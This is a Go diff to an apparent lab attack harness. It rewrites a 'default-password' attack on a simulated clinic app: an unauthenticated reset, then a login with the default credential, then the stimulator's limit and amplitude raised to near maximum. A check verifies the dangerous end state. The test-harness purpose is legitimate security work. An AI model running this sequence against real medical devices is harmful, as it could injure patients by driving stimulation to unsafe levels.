@@ -15,6 +15,7 @@ import (
 	"fmt"
 	"net"
 	"net/http"
+	"net/url"
 	"strings"
 	"sync"
 	"time"
@@ -78,6 +79,35 @@ func at(do func(*terminal) (how string, loot []byte, err error)) func(context.Co
 // tries is the run of an attack that says some lines.
 func tries(how string, said ...string) func(context.Context, *Env) (Result, error) {
 	return at(func(t *terminal) (string, []byte, error) { return how, nil, t.all(said...) })
+}
+
+// posts is the run of an attack that asks the app of a clinic, with the default password.
+func posts(how string, paths ...string) func(context.Context, *Env) (Result, error) {
+	return func(ctx context.Context, env *Env) (Result, error) {
+		c, err := env.dial(ctx, web)
+		if err != nil {
+			return Result{}, err
+		}
+		defer c.Close()
+		for _, path := range paths {
+			q := &http.Request{Method: http.MethodPost, URL: &url.URL{Path: path}, Host: "calm.stada.example", Header: http.Header{}}
+			if path != "/reset" { // for which nobody is asked
+				q.SetBasicAuth(clinicUser, defaultPassword)
+			}
+			var b bytes.Buffer
+			if err := q.Write(&b); err != nil {
+				return Result{}, err
+			}
+			answer, err := c.ask(b.Bytes())
+			if err == nil && !bytes.HasPrefix(answer, []byte("HTTP/1.1 2")) {
+				err = errRefused
+			}
+			if err != nil {
+				return result("", nil, err)
+			}
+		}
+		return result(how, nil, nil)
+	}
 }
 
 // takes is the run of an attack that takes what a line brings, if it can be read: if word
@@ -363,7 +393,7 @@ var boxAttacks = []Attack{
 	},
 	{
 		Row: "A37", Name: "default-password", Device: "clinic-app", Realism: Wire, About: "after a reset the password is the default",
-		Run: tries("limit and amplitude raised after a reset", "reset", "login "+defaultPassword, "limit 1000", "amplitude 950"),
+		Run: posts("limit and amplitude raised after a reset", "/reset", "/limit/1000", "/amplitude/950"),
 		hurt: hurt(func(b, a ClinicAppState, _ []byte) (bool, string) {
 			return a.Resets > b.Resets && a.Stimulator.Highest == 1000 && a.Stimulator.Amplitude == 950, "highest amplitude 10.00 V, amplitude 9.50 V"
 		}),
